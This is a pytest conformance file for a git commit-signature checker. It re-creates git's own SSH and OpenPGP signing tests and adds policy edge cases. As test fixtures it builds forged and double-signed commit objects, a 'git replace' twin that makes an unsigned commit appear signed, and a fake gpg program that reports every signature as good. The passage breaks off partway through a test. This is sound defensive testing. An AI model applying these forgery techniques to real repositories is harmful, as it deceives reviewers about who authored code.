"""Conformance: check-signatures against the scenarios of git's own signing tests.

git's t/t7528-signed-commit-ssh.sh, t/t7510-signed-commit.sh, their key set-up in
t/lib-gpg.sh and the signature parts of t/t4202-log.sh are re-created here with keys
made in the test (once per session), plus every case of issue 11: policy files that
ssh-keygen reads differently from a naive parser, objects steered by `git replace`,
revocations, double signatures, merges, hostile trust files, SSH certificates and a new
developer's onboarding. Every case asserts check-signatures' verdict and reason through
its `main([...])` entry point, and where git itself has an opinion (`%G?` with the same
trust), that check-signatures never passes what git does not.

The quick loop (`-m 'not slow'`) keeps a pass and an unsigned commit of t7528, a
pass and a forgery of t7510, one case of each family of policy files and the
signing set-up; the other cases are marked slow.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from hooks import signatures
from tests.conftest import git
from tests.conftest import slow_after
from tests.conftest import write

ZERO = '0' * 40
# git's test_tick starts here (2005-04-07 22:13:13 -0700) and adds 60 s per tick.
TICK0 = 1112911993


# --- keys, made once per session ----------------------------------------------------


def _run(
    *args: str,
    env: dict[str, str] | None = None,
    stdin: bytes | None = None,
    cwd: Path | None = None,
) -> bytes:
    proc = subprocess.run(args, input=stdin, env=env, cwd=cwd, capture_output=True, check=False)
    assert proc.returncode == 0, f'{args}: {proc.stderr.decode()}'
    return proc.stdout


def _sshkey(path: Path, kind: str = 'ed25519', passphrase: str = '') -> Path:
    extra = ('-b', '2048') if kind == 'rsa' else ()
    _run('ssh-keygen', '-q', '-t', kind, *extra, '-N', passphrase, '-C', path.name, '-f', str(path))
    return path


class Keyring:
    """t/lib-gpg.sh's keys: SSH keys with and without lifetimes, a CA, and GnuPG keys
    for the committer and for 'Eris Discordia', whose signing subkey signs the
    untrusted commits."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.primary = _sshkey(root / 'ed25519_ssh_signing_key')
        self.secondary = _sshkey(root / 'rsa_2048_ssh_signing_key', 'rsa')
        self.protected = _sshkey(root / 'protected_ssh_signing_key', passphrase='super_secret')
        self.ecdsa = _sshkey(root / 'ecdsa_ssh_signing_key', 'ecdsa')
        self.untrusted = _sshkey(root / 'untrusted_ssh_signing_key')
        self.expired = _sshkey(root / 'expired_ssh_signing_key')
        self.notyetvalid = _sshkey(root / 'notyetvalid_ssh_signing_key')
        self.timeboxedvalid = _sshkey(root / 'timeboxed_valid_ssh_signing_key')
        self.timeboxedinvalid = _sshkey(root / 'timeboxed_invalid_ssh_signing_key')
        self.ca = _sshkey(root / 'ca_key')
        self.gnupg = root / 'gnupg'
        self.gnupg.mkdir(mode=0o700)
        # Backdated, so that a copy can be given an expiry in the past.
        three_days_ago = str(int(time.time()) - 3 * 86400)
        self.gpg(
            '--passphrase',
            '',
            '--faked-system-time',
            three_days_ago,
            '--quick-gen-key',
            'C O Mitter <committer@example.com>',
            'ed25519',
            'sign',
            'never',
        )
        self.gpg(
            '--passphrase',
            '',
            '--quick-gen-key',
            'Eris Discordia <discord@example.net>',
            'ed25519',
            'sign',
            'never',
        )
        self.committer_fpr = self.fpr('committer@example.com')
        self.eris_fpr = self.fpr('discord@example.net')
        self.gpg('--passphrase', '', '--quick-add-key', self.eris_fpr, 'ed25519', 'sign')
        listing = self.gpg('--with-colons', '--list-keys', self.eris_fpr).decode()
        fprs = [line.split(':')[9] for line in listing.splitlines() if line.startswith('fpr')]
        self.eris_subkey = fprs[-1]
        self.committer_asc = self.gpg('--armor', '--export', self.committer_fpr)
        self.eris_asc = self.gpg('--armor', '--export', self.eris_fpr)
        self.committer_secret = self.gpg(
            '--armor',
            '--pinentry-mode',
            'loopback',
            '--passphrase',
            '',
            '--export-secret-keys',
            self.committer_fpr,
        )
        self.committer_rev = (
            self.gnupg / 'openpgp-revocs.d' / f'{self.committer_fpr}.rev'
        ).read_bytes()
        expired = root / 'gnupg-expired'
        shutil.copytree(self.gnupg, expired, ignore=shutil.ignore_patterns('S.*'))
        env = {**os.environ, 'GNUPGHOME': str(expired)}
        _run(
            'gpg',
            '--batch',
            '--passphrase',
            '',
            '--pinentry-mode',
            'loopback',
            '--faked-system-time',
            str(int(time.time()) - 2 * 86400),
            '--quick-set-expire',
            self.committer_fpr,
            '1d',
            env=env,
        )
        self.committer_expired_asc = _run(
            'gpg', '--batch', '--armor', '--export', self.committer_fpr, env=env
        )
        subprocess.run(('gpgconf', '--kill', 'all'), env=env, capture_output=True, check=False)

    def gpg(self, *args: str, stdin: bytes | None = None) -> bytes:
        return _run(
            'gpg',
            '--batch',
            '--no-tty',
            *args,
            stdin=stdin,
            env={**os.environ, 'GNUPGHOME': str(self.gnupg)},
        )

    def fpr(self, email: str) -> str:
        out = self.gpg('--with-colons', '--list-keys', f'<{email}>').decode()
        return next(line.split(':')[9] for line in out.splitlines() if line.startswith('fpr'))

    @staticmethod
    def pub(key: Path) -> str:
        """'type base64' of a key, as an allowed_signers line names it."""
        text = Path(f'{key}.pub').read_text().split()
        return f'{text[0]} {text[1]}'

    @staticmethod
    def fingerprint(key: Path) -> str:
        return _run('ssh-keygen', '-lf', f'{key}.pub').decode().split()[1]

    def certificate(self, key: Path, principals: str, validity: str, name: str) -> Path:
        """A user certificate for `key` signed by the CA (`ssh-keygen -s`), beside a
        copy of the key so git can sign with `<name>-cert.pub`."""
        base = self.root / name
        if not base.exists():
            shutil.copy(key, base)
            shutil.copy(f'{key}.pub', f'{base}.pub')
            _run(
                'ssh-keygen',
                '-q',
                '-s',
                str(self.ca),
                '-I',
                name,
                '-n',
                principals,
                '-V',
                validity,
                f'{base}.pub',
            )
        return Path(f'{base}-cert.pub')

    def allowed_signers(self) -> str:
        """lib-gpg.sh's ssh.all_valid.allowedSignersFile, with the committer's email as
        the principal (check-signatures binds the signer to the committer)."""
        who = 'committer@example.com'
        return ''.join(
            [
                f'{who} {self.pub(self.primary)}\n',
                f'{who} {self.pub(self.secondary)}\n',
                f'{who} {self.pub(self.protected)}\n',
                f'{who} {self.pub(self.ecdsa)}\n',
                f'"principal with number 1" {self.pub(self.primary)}\n',
                f'{who} valid-after="20050407000000",valid-before="200504100000" '
                f'{self.pub(self.timeboxedvalid)}\n',
                f'{who} valid-after="20050401000000",valid-before="200504020000" '
                f'{self.pub(self.timeboxedinvalid)}\n',
                f'{who} valid-before="20000101000000" {self.pub(self.expired)}\n',
                f'{who} valid-after="29990101000000" {self.pub(self.notyetvalid)}\n',
            ]
        )


@pytest.fixture(scope='session')
def keyring(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Keyring]:
    k = Keyring(tmp_path_factory.mktemp('conformance-keys'))
    yield k
    subprocess.run(
        ('gpgconf', '--kill', 'all'),
        capture_output=True,
        check=False,
        env={**os.environ, 'GNUPGHOME': str(k.gnupg)},
    )


# --- a repository built like git's tests: a shell with test_tick ----------------------


class Shell:
    """git run with the environment of git's test suite: fixed identities, test_tick
    dates, no user or system config, the session's GnuPG home."""

    def __init__(self, root: Path, keyring: Keyring, *, object_format: str = 'sha1') -> None:
        self.root = root
        self.dir = root / 'repo'
        home = root / 'home'
        home.mkdir(parents=True)
        (home / '.gitconfig').write_text('[init]\n\tdefaultBranch = main\n')
        self.env = {k: v for k, v in os.environ.items() if not k.startswith('GIT_')}
        self.env.update(
            HOME=str(home),
            GIT_CONFIG_NOSYSTEM='1',
            GIT_CONFIG_GLOBAL=str(home / '.gitconfig'),
            GIT_AUTHOR_NAME='A U Thor',
            GIT_AUTHOR_EMAIL='author@example.com',
            GIT_COMMITTER_NAME='C O Mitter',
            GIT_COMMITTER_EMAIL='committer@example.com',
            GNUPGHOME=str(keyring.gnupg),
            GIT_MERGE_AUTOEDIT='no',
            GIT_TEMPLATE_DIR='',
            GIT_EDITOR=':',
            TZ='UTC',
        )
        self.now = TICK0
        self.tick(0)
        self.git('init', '-q', f'--object-format={object_format}', str(self.dir), cwd=root)

    def tick(self, seconds: int = 60) -> None:
        self.now += seconds
        self.env['GIT_COMMITTER_DATE'] = self.env['GIT_AUTHOR_DATE'] = f'{self.now} -0700'

    def git(self, *args: str, cwd: Path | None = None, stdin: bytes | None = None) -> str:
        return _run('git', *args, env=self.env, cwd=cwd or self.dir, stdin=stdin).decode()

    def rev(self, ref: str) -> str:
        return self.git('rev-parse', '--verify', f'{ref}^{{commit}}').strip()

    def write(self, name: str, text: str) -> None:
        (self.dir / name).write_text(text)

    def hash_commit(self, raw: bytes, *, literally: bool = False) -> str:
        extra = ('--literally',) if literally else ()
        return self.git('hash-object', *extra, '-w', '-t', 'commit', '--stdin', stdin=raw).strip()


def judge(capsys: pytest.CaptureFixture[str], sha: str, *args: str) -> tuple[str | None, str]:
    """check-signatures' verdict on one commit: (rule or None for a pass, message)."""
    parent = subprocess.run(
        ('git', 'rev-parse', '-q', '--verify', f'{sha}^1'),
        capture_output=True,
        text=True,
        check=False,
    ).stdout.strip()
    code = signatures.main(
        ['--from', parent or ZERO, '--to', sha, '--no-cache', '--format', 'json', *args]
    )
    out = capsys.readouterr().out
    data = json.loads(out)
    mine = [f for f in data['findings'] if f['commit'] == sha]
    if mine:
        assert code == 1
        return mine[0]['rule'], mine[0]['message']
    return None, ''


def git_status(sha: str, allowed: Path, env: dict[str, str] | None = None) -> str:
    """git's own %G? for the commit, with the same allowed signers."""
    return subprocess.run(
        ('git', '-c', f'gpg.ssh.allowedSignersFile={allowed}', 'log', '-1', '--format=%G?', sha),
        capture_output=True,
        text=True,
        check=False,
        env=env,
    ).stdout.strip()


def create_signed_commits(sh: Shell, alt_key: str) -> None:
    """The history t7510 and t7528 share ('create signed commits'): signed, unsigned,
    a signed merge, an amended signature, commit.gpgsign on and off, a rebase that
    re-signs, a commit signed with `alt_key`, and commit-tree with and without -S."""
    sh.write('file', '1\n')
    sh.git('add', 'file')
    sh.tick()
    sh.git('commit', '-q', '-S', '-m', 'initial')
    sh.git('tag', 'initial')
    sh.git('branch', 'side')
    sh.write('file', '2\n')
    sh.tick()
    sh.git('commit', '-q', '-a', '-S', '-m', 'second')
    sh.git('tag', 'second')
    sh.git('checkout', '-q', 'side')
    sh.write('elif', '3\n')
    sh.git('add', 'elif')
    sh.tick()
    sh.git('commit', '-q', '-m', 'third on side')
    sh.git('checkout', '-q', 'main')
    sh.tick()
    sh.git('merge', '-q', '-S', 'side')
    sh.git('tag', 'merge')
    sh.write('file', '4\n')
    sh.tick()
    sh.git('commit', '-q', '-a', '-m', 'fourth unsigned')
    sh.git('tag', 'fourth-unsigned')
    sh.tick()
    sh.git('commit', '-q', '--amend', '-S', '-m', 'fourth signed')
    sh.git('tag', 'fourth-signed')
    sh.git('config', 'commit.gpgsign', 'true')
    sh.write('file', '5\n')
    sh.tick()
    sh.git('commit', '-q', '-a', '-m', 'fifth signed')
    sh.git('tag', 'fifth-signed')
    sh.git('config', 'commit.gpgsign', 'false')
    sh.write('file', '6\n')
    sh.tick()
    sh.git('commit', '-q', '-a', '-m', 'sixth')
    sh.git('tag', 'sixth-unsigned')
    sh.git('config', 'commit.gpgsign', 'true')
    sh.write('file', '7\n')
    sh.tick()
    sh.git('commit', '-q', '-a', '-m', 'seventh', '--no-gpg-sign')
    sh.git('tag', 'seventh-unsigned')
    sh.tick()
    sh.git('rebase', '-q', '-f', 'HEAD^^')
    sh.git('tag', 'sixth-signed', 'HEAD^')
    sh.git('tag', 'seventh-signed')
    sh.write('file', '8\n')
    sh.tick()
    sh.git('commit', '-q', '-a', '-m', 'eighth', f'-S{alt_key}')
    sh.git('tag', 'eighth-signed-alt')
    # commit.gpgsign is still on, but commit-tree must not sign; -S must.
    for n, flag in ((9, None), (10, '-S'), (11, '--gpg-sign'), (12, f'--gpg-sign={alt_key}')):
        args = ('commit-tree', *((flag,) if flag else ()), 'HEAD^{tree}')
        oid = sh.git(*args, stdin=f'{n}\n'.encode()).strip()
        name = {
            9: 'ninth-unsigned',
            10: 'tenth-signed',
            11: 'eleventh-signed',
            12: 'twelfth-signed-alt',
        }[n]
        sh.git('tag', name, oid)


# --- t7528: SSH-signed commits -------------------------------------------------------


@pytest.fixture(scope='module')
def ssh_history(keyring: Keyring, tmp_path_factory: pytest.TempPathFactory) -> Shell:
    """t7528's 'create signed commits' and 'create signed commits with keys having
    defined lifetimes', step by step."""
    sh = Shell(tmp_path_factory.mktemp('t7528'), keyring)
    k = keyring
    sh.git('config', 'gpg.format', 'ssh')
    sh.git('config', 'user.signingkey', str(k.primary))
    create_signed_commits(sh, str(k.untrusted))
    sh.write('file', '13\n')
    sh.tick()
    sh.git('commit', '-q', '-a', '-m', 'thirteenth', f'-S{k.ecdsa}')
    sh.git('tag', 'thirteenth-signed-ecdsa')
    for name, key in (
        ('expired', k.expired),
        ('notyetvalid', k.notyetvalid),
        ('timeboxedvalid', k.timeboxedvalid),
        ('timeboxedinvalid', k.timeboxedinvalid),
    ):
        sh.write('file', f'{name}\n')
        sh.tick()
        sh.git('commit', '-q', '-a', '-m', name, f'-S{key}')
        sh.git('tag', f'{name}-signed')
    # 'principal with number 1' (lib-gpg.sh's quoted principal) commits, as git's
    # allowed_signers names it.
    env = dict(sh.env)
    sh.env['GIT_COMMITTER_EMAIL'] = 'principal with number 1'
    sh.write('file', 'quoted\n')
    sh.tick()
    sh.git('commit', '-q', '-a', '-m', 'quoted principal', '-S')
    sh.git('tag', 'quoted-principal')
    sh.env = env
    # 'detect fudged signature' and 'detect fudged signature with NUL'.
    raw = sh.git('cat-file', 'commit', 'seventh-signed').encode()
    sh.git('tag', 'forged1', sh.hash_commit(raw.replace(b'\nseventh', b'\n7th forged')))
    sh.git('tag', 'forged2', sh.hash_commit(raw + b'\0wik\n', literally=True))
    # Trust: the working tree's policy (untracked: the history stays git's).
    (sh.dir / '.allowed_signers').write_text(k.allowed_signers())
    (sh.dir / '.commit-warden.yaml').write_text(
        'version: 1\nsignatures:\n  allowed_signers: .allowed_signers\nreport:\n  audit: false\n'
    )
    return sh


T7528 = [
    # 'verify and show signatures': good, trusted
    ('initial', None),
    ('second', None),
    ('merge', None),
    ('fourth-signed', None),
    ('fifth-signed', None),
    ('sixth-signed', None),
    ('seventh-signed', None),
    ('tenth-signed', None),
    ('eleventh-signed', None),
    ('thirteenth-signed-ecdsa', None),
    # ... unsigned
    ('merge^2', 'unsigned'),
    ('fourth-unsigned', 'unsigned'),
    ('sixth-unsigned', 'unsigned'),
    ('seventh-unsigned', 'unsigned'),
    ('ninth-unsigned', 'unsigned'),
    # ... good signature, key not in the allowed signers ("No principal matched")
    ('eighth-signed-alt', 'unknown-key'),
    ('twelfth-signed-alt', 'unknown-key'),
    # 'verify-commit exits failure on expired / not yet valid signature key', 'succeeds
    # with commit date and key validity matching', 'failure with commit date outside'
    ('expired-signed', 'expired'),
    ('notyetvalid-signed', 'expired'),
    ('timeboxedvalid-signed', None),
    ('timeboxedinvalid-signed', 'expired'),
    # lib-gpg.sh's quoted principal with spaces
    ('quoted-principal', None),
    # 'detect fudged signature', '... with NUL'
    ('forged1', 'bad-signature'),
    ('forged2', 'bad-signature'),
]


@pytest.mark.parametrize(('tag', 'rule'), slow_after(('initial', 'merge^2'), T7528, several=True))
def test_t7528_verdicts_agree_with_git(ssh_history, capsys, monkeypatch, tag, rule):
    monkeypatch.chdir(ssh_history.dir)
    sha = ssh_history.rev(tag)
    got, message = judge(capsys, sha)
    assert got == rule, message
    # Never looser than git: a pass is a commit git itself calls good and trusted.
    status = git_status(sha, ssh_history.dir / '.allowed_signers', ssh_history.env)
    assert (status == 'G') == (rule is None), status


def test_t7528_messages_name_key_principal_policy_and_fix(
    ssh_history, keyring, capsys, monkeypatch
):
    monkeypatch.chdir(ssh_history.dir)
    rule, message = judge(capsys, ssh_history.rev('eighth-signed-alt'))
    fpr = keyring.fingerprint(keyring.untrusted)
    assert rule == 'unknown-key'
    first, *rest = message.split('\n')
    assert first == (
        f'{ssh_history.rev("eighth-signed-alt")[:12]} "eighth": signed with SSH '
        f'key {fpr}, which is not trusted in the allowed signers in the working '
        'tree (.allowed_signers)'
    )
    assert rest == [
        'fix: sign with a key .allowed_signers trusts for committer@example.com, '
        'or have a maintainer add this key for committer@example.com in a change '
        'of their own (`commit-warden signing setup` prints the line)'
    ]
    rule, message = judge(capsys, ssh_history.rev('expired-signed'))
    assert rule == 'expired'
    assert message.split('\n')[0].endswith(
        f'signed with SSH key {keyring.fingerprint(keyring.expired)} outside its validity '
        '(committed 2005-04-07 22:26 UTC, but .allowed_signers:8 in the working tree allows '
        'the key only from - to 2000-01-01 00:00 UTC)'
    )
    rule, message = judge(capsys, ssh_history.rev('forged1'))
    assert message.split('\n') == [
        f'{ssh_history.rev("forged1")[:12]} "7th forged": the SSH signature does not verify '
        '(ssh-keygen: Signature verification failed: incorrect signature; key '
        f'{keyring.fingerprint(keyring.primary)})',
        'fix: sign it again (`git commit --amend --no-edit -S`): a signature holds only for '
        'the exact commit it was made over',
    ]


def test_t7528_proper_header_for_the_hash_algorithm(ssh_history):
    raw = ssh_history.git('cat-file', 'commit', 'fourth-signed')
    assert '\ngpgsig -----BEGIN SSH SIGNATURE-----\n' in raw


def test_t7528_amending_an_already_signed_commit(ssh_history, capsys, monkeypatch):
    sh = ssh_history
    monkeypatch.chdir(sh.dir)
    sh.git('checkout', '-q', '-f', 'fourth-signed^0')
    try:
        sh.git('commit', '-q', '--amend', '-S', '--no-edit')
        assert judge(capsys, sh.rev('HEAD')) == (None, '')
    finally:
        sh.git('checkout', '-q', '-f', 'main')


# --- t7510: OpenPGP-signed commits -----------------------------------------------------


def _unfold_signature(raw: bytes, header: bytes = b'gpgsig') -> tuple[bytes, bytes]:
    """(the commit without its `header` signature, the signature) of a raw commit."""
    lines = raw.split(b'\n')
    out, sig, inside = [], [], False
    for line in lines:
        if line.startswith(header + b' '):
            sig.append(line[len(header) + 1 :])
            inside = True
        elif inside and line.startswith(b' '):
            sig.append(line[1:])
        else:
            inside = False
            out.append(line)
    return b'\n'.join(out), b'\n'.join(sig) + b'\n'


def _with_header(raw: bytes, header: bytes, value: bytes) -> bytes:
    """`raw` with a `header` (folded as git folds it) inserted after the committer line."""
    folded = header + b' ' + value.rstrip(b'\n').replace(b'\n', b'\n ') + b'\n'
    head, sep, rest = raw.partition(b'\ncommitter ')
    line, nl, tail = rest.partition(b'\n')
    return head + sep + line + nl + folded + tail


@pytest.fixture(scope='module')
def pgp_history(keyring: Keyring, tmp_path_factory: pytest.TempPathFactory) -> Shell:
    """t7510's 'create signed commits', then its fudged, double- and multiply-signed
    objects."""
    sh = Shell(tmp_path_factory.mktemp('t7510'), keyring)
    k = keyring
    sh.git('config', 'user.signingkey', k.committer_fpr)
    create_signed_commits(sh, f'{k.eris_subkey}!')
    # 'commit verifies with non-UTF-8 commit message'
    sh.write('file', 'unusual-message\n')
    sh.write('message', '')
    (sh.dir / 'message').write_bytes(b'I hate\xfe\xffUTF-8\n')
    sh.tick()
    sh.git('commit', '-q', '-a', '-S', '-F', str(sh.dir / 'message'))
    sh.git('tag', 'non-utf8')
    # 'detect fudged signature', '... with NUL'
    raw = sh.git('cat-file', 'commit', 'seventh-signed').encode()
    forged1 = raw.replace(b'\nseventh', b'\n7th forged')
    sh.git('tag', 'forged1', sh.hash_commit(forged1))
    sh.git('tag', 'forged2', sh.hash_commit(raw + b'\0wik\n', literally=True))
    # 'detect fudged commit with double signature': the original signature (over
    # other content) and a good one by Eris, in one armor.
    base, sig1 = _unfold_signature(forged1)
    sig1_bin = k.gpg('--dearmor', stdin=sig1)
    sig2_bin = k.gpg('--detach-sign', '-u', f'{k.eris_subkey}!', stdin=base)
    armored = k.gpg('--enarmor', stdin=sig1_bin + sig2_bin).replace(b'ARMORED FILE', b'SIGNATURE')
    armored = b'\n'.join(line for line in armored.split(b'\n') if not line.startswith(b'Comment:'))
    sh.git('tag', 'double-signed', sh.hash_commit(_with_header(base, b'gpgsig', armored)))
    # 'verify-commit verifies multiply signed commits': gpgsig and gpgsig-sha256.
    parent = sh.rev('HEAD')
    tree = sh.git('rev-parse', 'HEAD^{tree}').strip()
    payload = (
        f'tree {tree}\nparent {parent}\n'
        'author A U Thor <author@example.com> 1112912653 -0700\n'
        'committer C O Mitter <committer@example.com> 1112912653 -0700\n'
        '\nsecond\n'
    ).encode()
    sig_sha1 = k.gpg('--armor', '--detach-sign', '-u', k.committer_fpr, stdin=payload)
    sig_other = k.gpg('--armor', '--detach-sign', '-u', k.committer_fpr, stdin=b'other')
    multiple = _with_header(_with_header(payload, b'gpgsig-sha256', sig_other), b'gpgsig', sig_sha1)
    sh.git('tag', 'multiply-signed', sh.hash_commit(multiple))
    # Trust: the committer's public key only.
    (sh.dir / '.gpg-keys').mkdir()
    (sh.dir / '.gpg-keys' / 'committer.asc').write_bytes(k.committer_asc)
    (sh.dir / '.commit-warden.yaml').write_text(
        'version: 1\nsignatures:\n  openpgp_keys: .gpg-keys\nreport:\n  audit: false\n'
    )
    # What git sees with the same trust: a keyring holding only that key, trusted.
    trusted = sh.root / 'trusted-gnupg'
    trusted.mkdir(mode=0o700)
    # Verifying needs no agent: none is started, and none outlives the test.
    (trusted / 'gpg.conf').write_text('no-autostart\n')
    env = {**os.environ, 'GNUPGHOME': str(trusted)}
    _run('gpg', '--batch', '--import', stdin=k.committer_asc, env=env)
    _run('gpg', '--batch', '--import-ownertrust', stdin=f'{k.committer_fpr}:6:\n'.encode(), env=env)
    return sh


T7510 = [
    ('initial', None),
    ('second', None),
    ('merge', None),
    ('fourth-signed', None),
    ('fifth-signed', None),
    ('sixth-signed', None),
    ('seventh-signed', None),
    ('tenth-signed', None),
    ('eleventh-signed', None),
    ('non-utf8', None),
    ('multiply-signed', None),
    ('merge^2', 'unsigned'),
    ('fourth-unsigned', 'unsigned'),
    ('sixth-unsigned', 'unsigned'),
    ('seventh-unsigned', 'unsigned'),
    ('ninth-unsigned', 'unsigned'),
    # signed by a key the policy does not hold (git: 'E' with only the trusted keys)
    ('eighth-signed-alt', 'unknown-key'),
    ('twelfth-signed-alt', 'unknown-key'),
    ('forged1', 'bad-signature'),
    ('forged2', 'bad-signature'),
    # git: 'E' ("BAD signature" and "Good signature" both); one commit, one signer
    ('double-signed', 'bad-signature'),
]


@pytest.mark.parametrize(('tag', 'rule'), slow_after(('initial', 'forged1'), T7510, several=True))
def test_t7510_verdicts_agree_with_git(pgp_history, capsys, monkeypatch, tag, rule):
    sh = pgp_history
    monkeypatch.chdir(sh.dir)
    sha = sh.rev(tag)
    got, message = judge(capsys, sha)
    assert got == rule, message
    env = {**sh.env, 'GNUPGHOME': str(sh.root / 'trusted-gnupg')}
    status = subprocess.run(
        ('git', 'log', '-1', '--format=%G?', sha),
        env=env,
        cwd=sh.dir,
        capture_output=True,
        text=True,
        check=False,
    ).stdout.strip()
    assert (status == 'G') == (rule is None), status


def test_t7510_double_signature_says_why(pgp_history, capsys, monkeypatch):
    monkeypatch.chdir(pgp_history.dir)
    rule, message = judge(capsys, pgp_history.rev('double-signed'))
    assert rule == 'bad-signature'
    assert 'the signature holds 2 signatures; a commit has one' in message.split('\n')[0]


def test_t7510_user_gpg_program_is_never_the_judge(pgp_history, capsys, monkeypatch, tmp_path):
    # t7510's 'custom `gpg.program`': a fake gpg that calls every signature good. The
    # user's configuration must not decide what the policy trusts.
    sh = pgp_history
    fake = tmp_path / 'fake-gpg'
    fake.write_text(
        '#!/bin/sh\n'
        'case "$*" in *-bsau*) cat >/dev/null; echo "[GNUPG:] SIG_CREATED $*" >&2; '
        'echo "-----BEGIN PGP MESSAGE-----"; echo "$*"; '
        'echo "-----END PGP MESSAGE-----";; *) exit 0;; esac\n'
    )
    fake.chmod(0o755)
    monkeypatch.chdir(sh.dir)
    sh.git('checkout', '-q', '-b', 'fake-gpg', 'main')
    try:
        sh.git(
            '-c',
            f'gpg.program={fake}',
            'commit',
            '-q',
            '-S',
            '--allow-empty',
            '-m',
            'signed-commit',
        )
        sha = sh.rev('HEAD')
        sh.git('config', 'gpg.program', str(fake))
        try:
            rule, _ = judge(capsys, sha)
        finally:
            sh.git('config', '--unset', 'gpg.program')
        assert rule == 'bad-signature'
    finally:
        sh.git('checkout', '-q', 'main')


@pytest.mark.parametrize(
    ('trusted', 'rule', 'words'),
    slow_after(
        1,
        [
            ('expired', 'expired', '(the key has expired)'),
            ('revoked', 'revoked', 'signed with a revoked OpenPGP key'),
        ],
        several=True,
    ),
)
def test_openpgp_expired_and_revoked_keys(
    pgp_history, keyring, capsys, monkeypatch, tmp_path, trusted, rule, words
):
    sh = pgp_history
    monkeypatch.chdir(sh.dir)
    keys = tmp_path / 'keys'
    keys.mkdir()
    if trusted == 'expired':
        (keys / 'committer.asc').write_bytes(keyring.committer_expired_asc)
    else:
        (keys / 'committer.asc').write_bytes(keyring.committer_asc)
        (keys / f'{keyring.committer_fpr}.rev').write_bytes(keyring.committer_rev)
    cfg = tmp_path / 'policy.yaml'
    shutil.copytree(keys, sh.dir / f'.keys-{trusted}')
    cfg.write_text(
        f'version: 1\nsignatures:\n  openpgp_keys: .keys-{trusted}\nreport:\n  audit: false\n'
    )
    got, message = judge(capsys, sh.rev('initial'), '--config', str(cfg))
    assert got == rule
    assert words in message.split('\n')[0]


# --- SHA-256 repositories ----------------------------------------------------------------


@pytest.mark.slow
def test_sha256_repository(keyring, tmp_path, capsys, monkeypatch):
    sh = Shell(tmp_path, keyring, object_format='sha256')
    monkeypatch.chdir(sh.dir)
    sh.git('config', 'gpg.format', 'ssh')
    sh.git('config', 'user.signingkey', str(keyring.primary))
    sh.write('file', '1\n')
    sh.git('add', 'file')
    sh.tick()
    sh.git('commit', '-q', '-S', '-m', 'signed')
    signed = sh.rev('HEAD')
    assert len(signed) == 64
    raw = sh.git('cat-file', 'commit', signed).encode()
    assert b'\ngpgsig-sha256 -----BEGIN SSH SIGNATURE-----\n' in raw
    sh.tick()
    sh.git('commit', '-q', '--allow-empty', '-m', 'unsigned')
    forged = sh.hash_commit(raw.replace(b'\nsigned', b'\nforged'))
    (sh.dir / '.allowed_signers').write_text(keyring.allowed_signers())
    (sh.dir / '.commit-warden.yaml').write_text(
        'version: 1\nsignatures:\n  allowed_signers: .allowed_signers\n'
    )
    assert judge(capsys, signed) == (None, '')
    assert judge(capsys, sh.rev('HEAD'))[0] == 'unsigned'
    assert judge(capsys, forged)[0] == 'bad-signature'
    # A signature in the other hash's header (gpgsig) is not this object's signature.
    other = raw.replace(b'\ngpgsig-sha256 ', b'\ngpgsig ')
    assert judge(capsys, sh.hash_commit(other))[0] == 'unsigned'


# --- issue 11: the cases of "Why" ----------------------------------------------------------


def ssh_policy(repo: Path, signers: str, extra: str = '') -> str:
    """A policy trusting `signers` (committed unsigned, as the base); returns its id."""
    write(repo / '.allowed_signers', signers)
    write(
        repo / '.commit-warden.yaml',
        f'version: 1\nsignatures:\n  allowed_signers: .allowed_signers\n{extra}',
    )
    git('add', '-A', cwd=repo)
    git('commit', '-q', '--no-verify', '--no-gpg-sign', '-m', 'policy', cwd=repo)
    return git('rev-parse', 'HEAD', cwd=repo).stdout.strip()


def sign_with(repo: Path, key: Path) -> None:
    git('config', 'gpg.format', 'ssh', cwd=repo)
    git('config', 'user.signingkey', str(key), cwd=repo)


def commit(repo: Path, message: str, *args: str, sign: bool = True) -> str:
    git(
        'commit',
        '-q',
        '--no-verify',
        '--allow-empty',
        '-m',
        message,
        *(('-S',) if sign else ('--no-gpg-sign',)),
        *args,
        cwd=repo,
    )
    return git('rev-parse', 'HEAD', cwd=repo).stdout.strip()


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = signatures.main(list(args))
    out, err = capsys.readouterr()
    return code, out + err


@pytest.mark.parametrize(
    ('line', 'rejected'),
    slow_after(
        1,
        [
            ('committer@example.com frobnicate="1" {key}', 'bad options: unknown key option'),
            (
                'committer@example.com valid-before=29990101 {key}',
                'bad options: missing start quote',
            ),
            ('committer@example.com cert-authority {key}', None),
        ],
        several=True,
    ),
)
def test_a_line_ssh_keygen_would_not_use_trusts_nothing(
    repo, keyring, capsys, monkeypatch, line, rejected
):
    """alice's key is listed for alice, and on a line that only looks like it also
    allows committer@: ssh-keygen ignores that line (or, for cert-authority, lets it
    vouch only for certificates), so alice's key cannot sign as committer@."""
    key = keyring.pub(keyring.primary)
    base = ssh_policy(repo, f'alice@example.com {key}\n{line.format(key=key)}\n')
    sign_with(repo, keyring.primary)
    monkeypatch.setenv('GIT_COMMITTER_EMAIL', 'committer@example.com')
    sha = commit(repo, 'as committer')
    code, out = run(capsys, '--from', base, '--to', sha)
    assert code == 1
    lines = out.splitlines()
    fpr = keyring.fingerprint(keyring.primary)
    expect = (
        f'(commit {sha[:12]}) {sha[:12]} "as committer": signed by alice@example.com '
        f'(SSH key {fpr}), but committed by committer@example.com'
    )
    if rejected:
        expect += (
            ' (.allowed_signers:2 in the working tree names committer@example.com, but '
            f'ssh-keygen rejects that line ({rejected}))'
        )
        assert lines[-1].startswith(
            f'note: .allowed_signers:2: ssh-keygen rejects this line '
            f'({rejected}), so it trusts nobody'
        )
    assert lines[0] == expect + ' [signer-mismatch]'
    assert lines[1] == (
        '    fix: a valid signature must come from the committer: '
        '.allowed_signers in the working tree allows this key for '
        'alice@example.com, not for committer@example.com; commit as the '
        "key's owner (`git config user.email`) or sign with your own allowed key"
    )


@pytest.mark.slow
def test_replace_refs_and_grafts_never_steer_a_verdict(repo, keyring, capsys):
    base = ssh_policy(repo, f'alice@example.com {keyring.pub(keyring.primary)}\n')
    sign_with(repo, keyring.primary)
    x = commit(repo, 'the real X', sign=False)
    # A signed twin of X, and `git replace X <twin>`: git now shows X as signed.
    twin = commit(repo, 'the real X', '--amend', '--no-edit')
    git('reset', '-q', '--hard', x, cwd=repo)
    git('replace', x, twin, cwd=repo)
